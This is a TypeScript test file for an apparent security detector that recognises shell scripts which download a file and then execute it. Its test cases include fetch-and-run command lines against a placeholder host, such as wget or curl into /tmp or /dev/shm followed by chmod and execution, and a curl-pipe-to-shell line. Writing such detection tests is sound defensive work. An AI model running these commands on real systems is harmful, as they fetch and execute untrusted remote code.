import { describe, expect, it } from 'vitest';
import { buildTestHostEvent } from '../test-host-event.js';
import { commandsOf } from '../views/command-list.js';
import { downloadRunLater } from './runs-downloaded-file.js';

function runLater(script: string): string | undefined {
  const event = buildTestHostEvent(
    { kind: 'process', process: { argv: ['sh', '-c', script] } },
    script,
    0,
  );
  return downloadRunLater(commandsOf(event))?.url;
}

describe('downloadRunLater', () => {
  it.each([
    [
      'wget http://h.example/bins.sh; chmod 777 bins.sh; sh bins.sh',
      'http://h.example/bins.sh',
    ],
    [
      'curl -so /tmp/.k http://h.example/k && chmod +x /tmp/.k && /tmp/.k',
      'http://h.example/k',
    ],
    [
      'curl -sO http://h.example/a/run?x=1 ; ./run',
      'http://h.example/a/run?x=1',
    ],
    [
      'wget -qO /dev/shm/p.py http://h.example/p; python3 /dev/shm/p.py',
      'http://h.example/p',
    ],
  ])('%s runs %s', (script, url) => {
    expect(runLater(script)).toBe(url);
  });

  it.each([
    'curl -fsSLo /tmp/kubectl https://dl.k8s.io/kubectl && install /tmp/kubectl /usr/local/bin/',
    './x.sh; wget http://h.example/x.sh',
    'curl -s http://h.example/x.sh | sh',
    'wget http://h.example/a.tar.gz && tar xzf a.tar.gz',
  ])('%s runs nothing it downloaded', (script) => {
    expect(runLater(script)).toBeUndefined();
  });
});
